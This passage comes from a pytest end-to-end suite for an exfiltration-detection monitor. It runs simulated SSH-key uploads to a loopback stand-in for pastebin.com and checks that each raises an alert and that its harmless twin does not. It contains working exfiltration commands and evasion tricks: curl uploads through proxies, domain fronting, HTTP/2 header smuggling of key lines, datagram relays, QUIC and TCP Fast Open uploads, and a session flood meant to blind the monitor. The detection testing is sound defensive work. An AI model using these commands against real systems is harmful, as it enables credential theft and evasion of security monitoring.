    assert_no_secret(monitor, key)
    sent = [r for r in monitor.records()
            if is_action("object-io", {"exfilwatch.object.kind": "loopback_socket",
                                       "exfilwatch.object.direction": "write"})(r)
            and get(r, "process.name") == "socat"]
    assert sent, f"no loopback_socket write by socat to {address}"


def test_report_relayed_through_the_hosts_own_address_is_silent(monitor, standin, fake_home, tmp_path):
    report = tmp_path / "report.txt"
    report.write_text("build 1234 passed: 812 tests, 0 failures\n" * 60)
    shell = host_address_relay(channel_tool(tmp_path), report, free_port(), free_port(), host_address())
    silent_run(monitor, standin, fake_home, tmp_path, "host-address-relay-report", shell)


SCM_OWNER = """
import os, socket, sys
r, w = os.pipe()
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect(sys.argv[1])
socket.send_fds(s, [b"x"], [w])
os.close(w)
s.close()
total = 0
while True:
    data = os.read(r, 65536)
    if not data:
        break
    total += len(data)
print(total, flush=True)
"""

SCM_WRITER = """
import os, socket, sys
l = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
l.bind(sys.argv[1])
l.listen(1)
print("ready", flush=True)
c, _ = l.accept()
_, fds, _, _ = socket.recv_fds(c, 16, 1)
os.write(fds[0], b"s" * 6000)
"""


def test_pipe_end_passed_by_scm_rights(monitor, tmp_path):
    # The pipe's write end travels to an unrelated process over a UNIX socket: what it writes
    # is still the pipe its owner reads.
    path = str(tmp_path / "pass.sock")
    writer = subprocess.Popen(["setsid", PY, "-c", SCM_WRITER, path], stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE)
    assert writer.stdout.readline().strip() == b"ready"
    owner = subprocess.Popen([PY, "-c", SCM_OWNER, path], stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE)
    out, err = owner.communicate(timeout=60)
    assert owner.returncode == 0 and out.strip() == b"6000", err.decode(errors="replace")
    finish(writer)
    assert_same_channel(monitor, writer.pid, owner.pid, "pipe", 6000)


def test_io_uring_write_into_a_pipe(monitor, uring_read):
    writer = subprocess.Popen([str(uring_read), "--write", "8000"], stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE)
    reader = subprocess.Popen(["cat"], stdin=writer.stdout, stdout=subprocess.DEVNULL,
                              stderr=subprocess.PIPE)
    writer.stdout.close()
    finish(writer, reader)
    assert_same_channel(monitor, writer.pid, reader.pid, "pipe", 8000)
    assert get(io_records(monitor, writer.pid, "write", "pipe")[0], "exfilwatch.object.fd") == -1


# --- Class: names an attacker cannot pick cheaply ---------------------------------------------
# The flow is named by what its own client sends, however it is shaped: through a proxy (the
# CONNECT target, an absolute URI's host, and the ClientHello tunnelled through it), a
# ClientHello over 16 KiB, IPv6 extension headers, and TCP Fast Open. Each attack alerts with the
# paste site's sub-technique and its name; each twin (the same shape, no secret) is named too and
# stays silent.

NAMED = "pastebin.com"  # a paste site (T1567.003) the stand-in serves
FRONT = "cdn.example.net"  # a harmless name to put in front of it
TLS_UPLOAD = paths.TOOLS_DIR / "tls_upload.py"
HARMLESS = "/etc/os-release"


@pytest.fixture(scope="module")
def naming_proxy(tmp_path_factory):
    """A proxy of this module's own (next to E2E_PROXY_PORT) that also forwards plain HTTP."""
    listen = f"127.0.0.1:{PROXY_PORT + 1}"
    names = {NAMED: "127.0.0.1", FRONT: "127.0.0.1", "upload.example.org": "127.0.0.1"}
    with ConnectProxy(tmp_path_factory.mktemp("naming-proxy"), listen=listen, names=names,
                      forward_plain=True) as running:
        yield running


def named_alerts(monitor, port, domain=NAMED, technique="T1567.003"):
    found = [r for r in monitor.records()
             if get(r, "event.action") == "exfiltration-suspected"
             and get(r, "destination.port") == port and get(r, "destination.domain") == domain
             and technique in as_list(get(r, "threat.technique.subtechnique.id", []))]
    assert found, (f"no {technique} alert to {domain}:{port}: "
                   f"{[(get(r, 'destination.domain'), get(r, 'destination.port')) for r in monitor.records() if get(r, 'event.kind') == 'alert']}")
    return found


def hello_named(monitor, port, name=NAMED, process=None):
    """The tls-client-hello records to `port` with SNI `name` (by `process`, when given)."""
    return [r for r in monitor.records()
            if get(r, "event.action") == "tls-client-hello"
            and get(r, "destination.port") == port and get(r, "tls.client.server_name") == name
            and (process is None or str(get(r, "process.name")).startswith(process))]


def named_attack(monitor, standin, fake_home, tmp_path, name, shell, port, *, service=True,
                 domain=NAMED):
    scenario = Scenario(name, "alert", shell, technique="T1567.003",
                        domain=domain if service else "", uploads=True)
    run_attack(scenario, monitor, standin, fake_home, tmp_path)
    assert_no_secret(monitor, key_of(fake_home))
    return named_alerts(monitor, port, domain)


def named_silent(monitor, standin, fake_home, tmp_path, name, shell, port, *, service=True,
                 domain=NAMED):
    """Runs the twin, waits for its flow named `domain` (the name was found), and asserts no
    alert of this test (to `port`, or naming this test's directory)."""
    scenario = Scenario(name, "silent", shell, domain=domain if service else "", uploads=True)
    execute(scenario, fake_home, tmp_path, HTTPS_PORT)
    check_service_saw(scenario, standin)
    monitor.wait_for(lambda r: get(r, "event.action") == "flow-summary"
                     and get(r, "destination.port") == port
                     and get(r, "destination.domain") == domain
                     and get(r, "process.pid") != standin.pid,
                     WAIT_S, f"a flow-summary to {domain}:{port}")
    monitor.stop()
    assert_silent([r for r in monitor.records()
                   if get(r, "destination.port") == port or str(tmp_path) in json.dumps(r)])


@pytest.mark.parametrize("spelling", ["flag", "env"])
def test_upload_through_a_connect_proxy_is_named_by_its_target(monitor, standin, proxy, fake_home,
                                                              tmp_path, spelling):
    # The flow goes to the proxy; the CONNECT target and the ClientHello through the tunnel
    # both name pastebin.com, and that is the alert's destination (not the proxy).
    key = key_of(fake_home)
    upload = f"curl -sk -T {key} https://{NAMED}:8443/"
    shell = (upload.replace("curl ", f"curl -x {proxy.url} ") if spelling == "flag"
             else f"https_proxy={proxy.url} {upload}")
    named_attack(monitor, standin, fake_home, tmp_path, f"proxy-{spelling}", shell, PROXY_PORT)
    assert hello_named(monitor, PROXY_PORT, process="curl"), "no tunnelled ClientHello seen"


def test_fronting_through_a_proxy_is_named_by_the_tunnelled_sni(monitor, standin, naming_proxy,
                                                               fake_home, tmp_path):
    # CONNECT names a harmless host; the TLS inside the tunnel names the paste site: the
    # riskier name counts.
    key = key_of(fake_home)
    port = PROXY_PORT + 1
    shell = (f"curl -sk -x {naming_proxy.url} --connect-to {NAMED}:8443:{FRONT}:8443 "
             f"-T {key} https://{NAMED}:8443/")
    named_attack(monitor, standin, fake_home, tmp_path, "proxy-fronting", shell, port)
    assert any(t.get("kind") == "connect" and t.get("target") == f"{FRONT}:{HTTPS_PORT}"
               for t in naming_proxy.tunnels()), naming_proxy.tunnels()
    assert hello_named(monitor, port, process="curl")


def test_absolute_uri_through_a_plain_http_proxy(monitor, standin, naming_proxy, fake_home,
                                                 tmp_path):
    key = key_of(fake_home)
    shell = (f"curl -s -x {naming_proxy.url} --data-binary @{key} "
             f"http://{NAMED}:{HTTP_PORT}/api/post")
    named_attack(monitor, standin, fake_home, tmp_path, "plain-proxy", shell, PROXY_PORT + 1)
    assert any(t.get("kind") == "forward" for t in naming_proxy.tunnels())


def test_everyday_post_through_a_proxy_is_silent(monitor, standin, naming_proxy, fake_home,
                                                 tmp_path):
    # The same fronted tunnel, carrying a file that is no secret: named, and silent.
    shell = (f"curl -sk -x {naming_proxy.url} --connect-to {NAMED}:8443:{FRONT}:8443 "
             f"-T {HARMLESS} https://{NAMED}:8443/")
    named_silent(monitor, standin, fake_home, tmp_path, "proxy-twin", shell, PROXY_PORT + 1)


# Fronting inside TLS: the SNI names a harmless host, the Host header inside the encrypted stream
# (seen in the SSL_write plaintext by the uprobes) names the paste site. Both names are kept and
# the paste site counts. Twins: SNI and Host agree on a harmless host; they differ, both harmless.
OTHER_FRONT = "docs.example.org"  # another harmless name, for the twin where the two differ


def fronted_upload(client, payload, host, sni=FRONT):
    url = f"https://{sni}:8443/upload"
    if client == "curl":
        return (f"curl -sk --http1.1 --resolve {sni}:8443:127.0.0.1 -H 'Host: {host}' "
                f"--data-binary @{payload} {url}")
    return (f"{paths.PYTHON} -c 'import requests, urllib3; urllib3.disable_warnings(); "
            f"requests.post(\"{url}\", data=open(\"{payload}\", \"rb\").read(), "
            f"headers={{\"Host\": \"{host}\"}}, verify=False, timeout=20).raise_for_status()'")


def host_seen_in_tls(monitor, host, process):
    """The http-request record the TLS plaintext gave (Host `host`, by `process`), to HTTPS_PORT."""
    return monitor.wait_for(lambda r: get(r, "event.action") == "http-request"
                            and get(r, "url.domain") == host and get(r, "destination.port") == HTTPS_PORT
                            and str(get(r, "process.name")).startswith(process),
                            WAIT_S, f"an http-request for {host} from the TLS plaintext of {process}")


def assert_fronted_alert_replays_the_same(monitor, port, tmp_path):
    """The alerts on `port` say the flow was also named FRONT (the SNI), and a replay of the
    output decides the same alerts."""
    alerts = named_alerts(monitor, port)
    evidence = [s.get("evidence", "") for a in alerts for s in as_list(get(a, "exfilwatch.signals", []))]
    assert any(f"also named {FRONT}" in e for e in evidence), evidence
    returncode, records, stderr = replay(monitor.output, tmp_path / "replayed.ndjson")
    assert returncode == 0, stderr
    live = sorted(map(alert_key, filter(is_alert, monitor.records())), key=repr)
    assert sorted(map(alert_key, filter(is_alert, records)), key=repr) == live


@pytest.mark.parametrize("client", ["curl", "requests"])
def test_fronting_inside_tls_is_named_by_the_host_header(monitor, standin, fake_home, tmp_path, client):
    scenario = Scenario(f"tls-fronting-{client}", "alert", fronted_upload(client, key_of(fake_home), NAMED),
                        technique="T1567.003", domain=NAMED, hosts=(FRONT,), uploads=True)
    found = run_attack(scenario, monitor, standin, fake_home, tmp_path)
    assert_no_secret(monitor, key_of(fake_home))
    process = "curl" if client == "curl" else "python"
    assert hello_named(monitor, HTTPS_PORT, FRONT, process), "the SNI was not the harmless name"
    host_seen_in_tls(monitor, NAMED, process)
    # The Host came from the plaintext in an http-request record: replay decides the same.
    assert_fronted_alert_replays_the_same(monitor, HTTPS_PORT, tmp_path)
    assert found


@pytest.mark.parametrize("host", [FRONT, OTHER_FRONT], ids=["agree", "differ"])
def test_fronting_inside_tls_twins_are_silent(monitor, standin, fake_home, tmp_path, host):
    scenario = Scenario(f"tls-fronting-twin-{host}", "silent", fronted_upload("curl", HARMLESS, host),
                        domain=host, hosts=(FRONT,), uploads=True)
    execute(scenario, fake_home, tmp_path, HTTPS_PORT)
    check_service_saw(scenario, standin)
    host_seen_in_tls(monitor, host, "curl")
    monitor.wait_for(lambda r: get(r, "event.action") == "flow-summary" and get(r, "destination.port") == HTTPS_PORT
                     and get(r, "destination.domain") == FRONT and str(get(r, "process.name")).startswith("curl"),
                     WAIT_S, f"a flow-summary to {FRONT}")
    monitor.stop()
    assert_silent([r for r in monitor.records()
                   if get(r, "destination.port") == HTTPS_PORT or str(tmp_path) in json.dumps(r)])


# HTTP/2 (curl negotiates h2 when the server offers it in ALPN): the request's :authority is in
# HPACK-coded HEADERS frames, Huffman-coded as curl sends it. nghttpd (nghttp2-server) serves h2
# with the stand-in's certificate, and h2 with prior knowledge in cleartext, next to HTTPS_PORT.
H2_PORT = HTTPS_PORT + 5
H2C_PORT = HTTPS_PORT + 6
GH_TOKEN = "gho_h2E2eTwin0123456789abcdefABCDEFghij"


def wait_listening(port, process, deadline_s=10.0):
    import socket

    def listening():
        assert process.poll() is None, f"nghttpd on {port} exited {process.returncode}"
        with socket.socket() as probe:
            return probe.connect_ex(("127.0.0.1", port)) == 0
    wait_until(listening, deadline_s, f"nghttpd listening on {port}")


@pytest.fixture(scope="module")
def h2_servers(standin, tmp_path_factory):
    root = tmp_path_factory.mktemp("h2-docroot")
    (root / "upload").write_text("ok\n")
    servers = [subprocess.Popen(["nghttpd", "-a", "127.0.0.1", "-d", str(root), str(H2_PORT), str(standin.key),
                                 str(standin.cert)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL),
               subprocess.Popen(["nghttpd", "-a", "127.0.0.1", "--no-tls", "-d", str(root), str(H2C_PORT)],
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)]
    try:
        for port, server in zip((H2_PORT, H2C_PORT), servers):
            wait_listening(port, server)
        yield servers
    finally:
        for server in servers:
            server.kill()
            server.wait()


def h2_curl(name, *options, port=H2_PORT):
    """curl over h2 (fails unless the server answered 200), `name` resolved to loopback."""
    scheme = ["--http2", f"https://{name}:{port}/upload"] if port == H2_PORT else \
        ["--http2-prior-knowledge", f"http://{name}:{port}/upload"]
    return " ".join(["curl -sSf -k -o /dev/null", f"--resolve {name}:{port}:127.0.0.1", *options, *scheme])


def h2_requests(monitor, host, port):
    """The http-request records curl's h2 requests gave for `host` (url.domain) on `port`."""
    return monitor.wait_for(lambda r: get(r, "event.action") == "http-request" and get(r, "url.domain") == host
                            and get(r, "destination.port") == port
                            and str(get(r, "process.name")).startswith("curl"),
                            WAIT_S, f"an http-request for {host} on {port}")


def h2_attack(monitor, fake_home, tmp_path, name, shell, technique="T1567.003"):
    scenario = Scenario(name, "alert", shell, technique=technique)
    found = run_attack(scenario, monitor, None, fake_home, tmp_path)
    assert_no_secret(monitor, key_of(fake_home))
    return found


def test_h2_fronting_inside_tls_is_named_by_the_authority(monitor, h2_servers, fake_home, tmp_path):
    # The SNI names a harmless CDN; the :authority inside the h2 stream names the paste site.
    shell = h2_curl(FRONT, "-H 'Host: pastebin.com'", f"--data-binary @{key_of(fake_home)}")
    h2_attack(monitor, fake_home, tmp_path, "h2-fronting", shell)
    hellos = hello_named(monitor, H2_PORT, FRONT, "curl")
    assert hellos and all("h2" in as_list(get(h, "exfilwatch.tls.alpn", [])) for h in hellos), hellos
    h2_requests(monitor, NAMED, H2_PORT)
    assert_fronted_alert_replays_the_same(monitor, H2_PORT, tmp_path)


def test_h2_cleartext_with_prior_knowledge_is_named_by_the_authority(monitor, h2_servers, fake_home, tmp_path):
    # No TLS, no SNI and no DNS: the IP alone would name nothing; the :authority names it.
    shell = h2_curl(NAMED, f"--data-binary @{key_of(fake_home)}", port=H2C_PORT)
    h2_attack(monitor, fake_home, tmp_path, "h2c-upload", shell)
    h2_requests(monitor, NAMED, H2C_PORT)
    named_alerts(monitor, H2C_PORT)


def test_h2_key_in_a_custom_header_is_a_content_match(monitor, h2_servers, fake_home, tmp_path):
    # A line of the key in an X-Trace header, Huffman-coded by curl's HPACK encoder, no body.
    line = "$(sed -n 2p $HOME/.ssh/id_ed25519)"
    shell = h2_curl(NAMED, f"-H \"X-Trace: {line}\"")
    found = h2_attack(monitor, fake_home, tmp_path, "h2-header", shell)
    evidence = [s.get("evidence", "") for a in found for s in as_list(get(a, "exfilwatch.signals", []))
                if s.get("name") == "content-match"]
    assert any("raw in the header x-trace" in e for e in evidence), evidence


def test_h2_harmless_upload_is_silent(monitor, h2_servers, fake_home, tmp_path):
    execute(Scenario("h2-twin", "silent", h2_curl(FRONT, f"--data-binary @{HARMLESS}")), fake_home, tmp_path)
    h2_requests(monitor, FRONT, H2_PORT)
    monitor.wait_for(lambda r: get(r, "event.action") == "flow-summary" and get(r, "destination.port") == H2_PORT
                     and get(r, "destination.domain") == FRONT, WAIT_S, f"a flow-summary to {FRONT}")
    monitor.stop()
    assert_silent([r for r in monitor.records()
                   if get(r, "destination.port") == H2_PORT or str(tmp_path) in json.dumps(r)])


def test_h2_token_in_authorization_to_its_own_api_is_silent(monitor, h2_servers, fake_home, tmp_path):
    # gh's token read by awk and sent in Authorization over h2 to api.github.com: use, as over
    # HTTP/1 (test_everyday); the scans saw it there, by name, through HPACK.
    hosts = fake_home.path / ".config" / "gh" / "hosts.yml"
    hosts.parent.mkdir(parents=True, exist_ok=True)
    hosts.write_text(f"github.com:\n    oauth_token: {GH_TOKEN}\n    user: ci\n    git_protocol: https\n")
    shell = ("TOKEN=$(awk '/oauth_token/{print $2}' $HOME/.config/gh/hosts.yml); " +
             h2_curl("api.github.com", "-H \"Authorization: token $TOKEN\"", "-H 'Content-Type: application/json'",
                     "-d '{\"state\":\"success\",\"context\":\"ci\"}'"))
    execute(Scenario("h2-use", "silent", shell), fake_home, tmp_path)
    h2_requests(monitor, "api.github.com", H2_PORT)
    monitor.wait_for(lambda r: get(r, "event.action") == "flow-summary" and get(r, "destination.port") == H2_PORT
                     and get(r, "destination.domain") == "api.github.com", WAIT_S, "a flow-summary to api.github.com")
    monitor.stop()
    scans = [s for s in monitor.records() if get(s, "event.action") == "content-scan"
             and get(s, "exfilwatch.content.source") == "openssl"]
    assert any("authorization" in as_list(get(s, "exfilwatch.content.auth_headers", [])) for s in scans), scans
    assert GH_TOKEN not in monitor.output.read_text(errors="replace")
    assert_silent([r for r in monitor.records()
                   if get(r, "destination.port") == H2_PORT or str(tmp_path) in json.dumps(r)])


H2_SESSIONS = """import resource, socket, sys, time
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
key = open(sys.argv[1], "rb").read()
opened = []
for _ in range(int(sys.argv[3])):
    s = socket.create_connection(("127.0.0.1", int(sys.argv[2])))
    s.sendall(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0]))
    opened.append(s)
print(len(opened), flush=True)
time.sleep(60)
"""


def test_a_flood_of_h2_sessions_while_a_key_is_held_is_a_blind_spot(monitor, h2_servers, fake_home, tmp_path):
    # More cleartext h2 sessions than the enricher keeps (1024), opened by a process holding a
    # key: the evicted sessions' later requests would go unnamed, so the eviction is a
    # monitor-blind-spot record naming the holder, not only a counter.
    script = tmp_path / "h2_sessions.py"
    script.write_text(H2_SESSIONS)
    flood = subprocess.Popen([str(paths.PYTHON), str(script), str(key_of(fake_home)), str(H2C_PORT), "1200"],
                             stdout=subprocess.PIPE)
    try:
        assert int(flood.stdout.readline()) == 1200
        spot = monitor.wait_for(lambda r: get(r, "event.action") == "monitor-blind-spot"
                                and get(r, "exfilwatch.blind_spot.cause") == "http2_evicted", WAIT_S,
                                "a monitor-blind-spot record for evicted h2 sessions")
    finally:
        flood.kill()
        flood.wait()
    assert get(spot, "event.kind") == "alert" and get(spot, "exfilwatch.blind_spot.lost") > 0, spot
    assert flood.pid in [p.get("pid") for p in get(spot, "exfilwatch.processes", [])], spot
    assert_no_secret(monitor, key_of(fake_home))


def tls_upload(*options):
    return " ".join([str(paths.PYTHON), str(TLS_UPLOAD), "--sni", NAMED, *map(str, options)])


def test_client_hello_over_16_kib_still_names_the_flow(monitor, standin, fake_home, tmp_path):
    # 100 ALPN names of 200 bytes: OpenSSL sends a 20 KB ClientHello in two records, over many
    # segments.
    shell = tls_upload("--alpn-pad", 100, "--file", key_of(fake_home), "127.0.0.1", HTTPS_PORT)
    named_attack(monitor, standin, fake_home, tmp_path, "big-hello", shell, HTTPS_PORT)
    assert hello_named(monitor, HTTPS_PORT, process="python")


def test_client_hello_over_16_kib_twin_is_silent(monitor, standin, fake_home, tmp_path):
    shell = tls_upload("--alpn-pad", 100, "--file", HARMLESS, "127.0.0.1", HTTPS_PORT)
    named_silent(monitor, standin, fake_home, tmp_path, "big-hello-twin", shell, HTTPS_PORT)
    assert hello_named(monitor, HTTPS_PORT, process="python")


@pytest.mark.parametrize("ext", ["hop", "dst"])
def test_ipv6_extension_headers_hide_nothing(monitor, standin, fake_home, tmp_path, ext):
    key = key_of(fake_home)
    shell = tls_upload("--ipv6-ext", ext, "--file", key, "::1", HTTPS_PORT)
    named_attack(monitor, standin, fake_home, tmp_path, f"ipv6-{ext}", shell, HTTPS_PORT)
    assert hello_named(monitor, HTTPS_PORT, process="python")
    flows = [r for r in monitor.records()
             if is_action("flow-summary", {"destination.ip": "::1", "destination.domain": NAMED})(r)
             and str(get(r, "process.name")).startswith("python")
             and get(r, "source.bytes", 0) >= os.stat(key).st_size]
    assert flows, "no flow-summary over IPv6 carrying the key's bytes"


def test_ipv6_extension_headers_twin_is_silent(monitor, standin, fake_home, tmp_path):
    shell = tls_upload("--ipv6-ext", "dst", "--file", HARMLESS, "::1", HTTPS_PORT)
    named_silent(monitor, standin, fake_home, tmp_path, "ipv6-twin", shell, HTTPS_PORT)


def fast_open(standin, body):
    # A private network namespace of its own (the host's Fast Open sysctl is untouched) with the
    # TLS server in the same process: the client's ClientHello rides in the SYN.
    sysctl = 0x1 | 0x2 | 0x4 | 0x200  # client, server, no cookie either way
    client = tls_upload("--fastopen", "--serve-cert", standin.cert, "--serve-key", standin.key,
                        "--file", body, "127.0.0.1", HTTPS_PORT)
    return (f"unshare -n bash -c 'ip link set lo up && echo {sysctl} > "
            f"/proc/sys/net/ipv4/tcp_fastopen && exec {client}'")


def test_tcp_fast_open_client_hello_names_the_flow(monitor, standin, fake_home, tmp_path):
    shell = fast_open(standin, key_of(fake_home))
    named_attack(monitor, standin, fake_home, tmp_path, "fast-open", shell, HTTPS_PORT,
                 service=False)
    assert hello_named(monitor, HTTPS_PORT, process="python")


def test_tcp_fast_open_twin_is_silent(monitor, standin, fake_home, tmp_path):
    named_silent(monitor, standin, fake_home, tmp_path, "fast-open-twin",
                 fast_open(standin, HARMLESS), HTTPS_PORT, service=False)


# QUIC (UDP): the client Initials are decrypted (their keys derive from the packet) and the
# ClientHello in their CRYPTO frames names the flow. Debian 12 packages no QUIC client, so the
# first flight is built by tests/e2e/tools/quic_initial.py: genuine RFC 9001 Initials (v1, or v2
# of RFC 9369), then the file as short-header datagrams of ciphertext.
QUIC_TOOL = paths.TOOLS_DIR / "quic_initial.py"
QUIC_SHAPES = {"v1": [], "v1-split": ["--split"], "v2": ["--version", 2]}


def quic_upload(shape, body):
    return " ".join([str(paths.PYTHON), str(QUIC_TOOL), "--sni", NAMED, "--file", str(body),
                     *map(str, QUIC_SHAPES[shape]), "--serve", "127.0.0.1", str(HTTPS_PORT)])


def quic_flows(monitor):
    return [r for r in monitor.records()
            if is_action("flow-summary", {"network.transport": "udp", "destination.domain": NAMED,
                                          "destination.port": HTTPS_PORT})(r)
            and str(get(r, "process.name")).startswith("python")]


@pytest.mark.parametrize("shape", sorted(QUIC_SHAPES))
def test_quic_initial_names_the_flow(monitor, standin, fake_home, tmp_path, shape):
    key = key_of(fake_home)
    named_attack(monitor, standin, fake_home, tmp_path, f"quic-{shape}",
                 quic_upload(shape, key), HTTPS_PORT, service=False)
    assert hello_named(monitor, HTTPS_PORT, process="python")
    assert any(get(r, "source.bytes", 0) >= os.stat(key).st_size for r in quic_flows(monitor))


def test_quic_twin_is_silent(monitor, standin, fake_home, tmp_path):
    named_silent(monitor, standin, fake_home, tmp_path, "quic-twin",
                 quic_upload("v1-split", HARMLESS), HTTPS_PORT, service=False)
    assert quic_flows(monitor)


# --- Class: unconnected datagram senders (each datagram addressed on its own) ----------------
# socat UNIX-SENDTO and UDP-SENDTO send every datagram with sendto(dest) on a socket that never
# connected: no peer joins sender and receiver, so the kernel names the channel where the bytes
# reach the reader, by the datagram's sender. A relay in another session receives and uploads.

DGRAM_RELAY = """
import os, socket, ssl, sys, zlib

def post(data):
    c = ssl._create_unverified_context()
    s = c.wrap_socket(socket.create_connection(("127.0.0.1", {port})), server_hostname="{paste}")
    s.sendall(b"POST / HTTP/1.1\\r\\nHost: {paste}\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(data) + data)
    s.recv(100)

family, address, ready, action = sys.argv[1:5]
if family == "unix":
    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    s.bind(address)
else:  # PORT on loopback, or HOST:PORT
    host, _, port = address.rpartition(":")
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((host or "127.0.0.1", int(port)))
open(ready, "w").close()
data = s.recv(65536)                  # the first datagram, then whatever follows within 1.5 s
s.settimeout(1.5)
try:
    while True:
        data += s.recv(65536)
except socket.timeout:
    pass
if action == "upload":
    post(data)
elif action == "upload-z":  # compressed: no fingerprint of what it received in the post
    post(zlib.compress(data))
"""


def dgram_relay(tmp_path):
    tool = tmp_path / "dgram_relay.py"
    tool.write_text(DGRAM_RELAY.format(port=HTTPS_PORT, paste=PASTE))
    return f"{paths.PYTHON} {tool}"


def start_relay(relay, family, address, ready, action):
    """Shell text: the relay in the background, then wait until it is bound."""
    return (f"{relay} {family} {address} {ready} {action} & "
            f"for i in $(seq 200); do [ -e {ready} ] && break; sleep 0.05; done; ")


def datagram_ids(records, process_name, direction, kind):
    return {get(r, "exfilwatch.object.id") for r in records
            if is_action("object-io", {"exfilwatch.object.kind": kind,
                                       "exfilwatch.object.direction": direction})(r)
            and str(get(r, "process.name", "")).startswith(process_name)}


def dgram_target(tmp_path, family, name):
    return (tmp_path / f"{name}.sock") if family == "unix" else free_port()


def socat_sendto(family, target):
    return f"UNIX-SENDTO:{target}" if family == "unix" else f"UDP-SENDTO:127.0.0.1:{target}"


@pytest.mark.parametrize("expect", ["alert", "silent"])
@pytest.mark.parametrize("socket_kind", ["UDP", "UDP-SENDTO"])
def test_datagrams_to_the_hosts_own_address(monitor, standin, fake_home, tmp_path, socket_kind, expect):
    # socat sends to one of the host's own addresses (routed through the loopback device) from a
    # socket connected to it (UDP) or from one that never connects and addresses each datagram
    # (UDP-SENDTO); the relay, bound to that address in another session, uploads what it received.
    source = key_of(fake_home) if expect == "alert" else tmp_path / "report.txt"
    if expect == "silent":
        source.write_text("build 1234 passed: 812 tests, 0 failures\n" * 60)
    address, port = host_address(), free_port()
    shell = (start_relay(dgram_relay(tmp_path), "udp", f"{address}:{port}", tmp_path / "ready", "upload")
             + f"setsid socat -u -b 512 FILE:{source} {socket_kind}:{address}:{port}; wait")
    expect_run(expect, monitor, standin, fake_home, tmp_path, f"dgram-host-address-{socket_kind}-{expect}", shell)
    if expect == "alert":
        assert_no_secret(monitor, source)
    records = monitor.records()
    sent = datagram_ids(records, "socat", "write", "loopback_socket")
    assert sent and sent <= datagram_ids(records, "python3", "read", "loopback_socket"), sent


@pytest.mark.parametrize("family", ["unix", "udp"])
def test_unconnected_datagrams_to_a_relay_that_uploads(monitor, standin, fake_home, tmp_path, family):
    # 512-byte datagrams, each sent with its own address by an unconnected socket; the relay
    # (another session) never read the key.
    key = key_of(fake_home)
    target = dgram_target(tmp_path, family, "relay")
    shell = (start_relay(dgram_relay(tmp_path), family, target, tmp_path / "ready", "upload")
             + f"setsid socat -u -b 512 FILE:{key} {socat_sendto(family, target)}; wait")
    dataflow_attack(monitor, standin, fake_home, tmp_path, f"dgram-{family}", shell)
    kind = "unix_socket" if family == "unix" else "loopback_socket"
    records = monitor.records()
    sent = datagram_ids(records, "socat", "write", kind)
    received = datagram_ids(records, "python3", "read", kind)
    assert sent & received, f"no {kind} object both written by socat ({sent}) and read by the relay ({received})"
    assert_no_secret(monitor, key)


@pytest.mark.parametrize("family", ["unix", "udp"])
def test_unconnected_datagrams_from_a_key_reader_to_another_receiver_are_silent(
        monitor, standin, fake_home, tmp_path, family):
    # The twin: the key goes by datagram to a receiver that keeps it (a local log sink); a build
    # report goes the same way, from another unconnected sender, to the relay that uploads.
    key = key_of(fake_home)
    report = tmp_path / "report.txt"
    report.write_text("build 1234 passed\n" * 100)
    relay = dgram_relay(tmp_path)
    sink, up = dgram_target(tmp_path, family, "sink"), dgram_target(tmp_path, family, "relay")
    shell = (start_relay(relay, family, sink, tmp_path / "ready-sink", "keep")
             + start_relay(relay, family, up, tmp_path / "ready-up", "upload")
             + f"setsid socat -u -b 512 FILE:{key} {socat_sendto(family, sink)}; "
             + f"setsid socat -u -b 512 FILE:{report} {socat_sendto(family, up)}; wait")
    scenario = Scenario(f"dgram-{family}-twin", "silent", shell, domain=PASTE, uploads=True)
    execute(scenario, fake_home, tmp_path, HTTPS_PORT)
    check_service_saw(scenario, standin)
    wait_for_evidence(monitor, scenario, standin)
    monitor.stop()
    # The relay's upload stays silent. (socat sending the key itself to a UDP port has a network
    # flow of its own, an unnamed upload to 127.0.0.1: that alert is not the relay's.)
    assert_silent([r for r in monitor.records() if get(r, "destination.port") == HTTPS_PORT])


# Each message of one sendmmsg, and each io_uring SENDMSG, is counted on its own destination: the
# first datagram to a harmless receiver and the rest to the relay do not hide the relay (on the
# old model every message of a sendmmsg was taken as sent where the first went, and an io_uring
# SENDMSG named no destination: both attacks passed unseen).
DGRAM_SEND = paths.TOOLS_DIR / "dgram_send.py"


@pytest.fixture(scope="module")
def uring_dgram(c_tool):
    return c_tool("uring_dgram", "-luring")


def dgram_relay_run(monitor, standin, fake_home, tmp_path, name, send, expect):
    """A sink that keeps what it receives and a relay that uploads it (compressed), then `send`
    (shell text, formatted with {sink} and {relay}, the two ports)."""
    relay = dgram_relay(tmp_path)
    sink, up = free_port(), free_port()
    shell = (start_relay(relay, "udp", sink, tmp_path / "ready-sink", "keep")
             + start_relay(relay, "udp", up, tmp_path / "ready-up", "upload")
             + f"setsid {send.format(sink=sink, relay=up)}; wait")
    return expect_run(expect, monitor, standin, fake_home, tmp_path, name, shell)


def test_sendmmsg_with_its_first_datagram_elsewhere(monitor, standin, fake_home, tmp_path):
    key = key_of(fake_home)
    dgram_relay_run(monitor, standin, fake_home, tmp_path, "sendmmsg-addressed",
                    f"{paths.PYTHON} {DGRAM_SEND} {{sink}} {{relay}} {key}", "alert")
    assert_no_secret(monitor, key)


def test_sendmmsg_of_the_key_to_a_receiver_that_keeps_it_is_silent(monitor, standin, fake_home, tmp_path):
    key = key_of(fake_home)
    report = tmp_path / "report.txt"
    report.write_text("build 1234 passed\n" * 100)
    dgram_relay_run(monitor, standin, fake_home, tmp_path, "sendmmsg-addressed-twin",
                    f"{paths.PYTHON} {DGRAM_SEND} {{sink}} {{sink}} {key}; "
                    f"{paths.PYTHON} {DGRAM_SEND} {{sink}} {{relay}} {report}", "silent")


# SENDMSG names its destination in the msghdr; SEND in the SQE (addr2), which the kernel copies at
# submission (an io_uring SEND with an address named no destination before: the attack passed).
URING_SENDS = ["sendmsg", "send"]


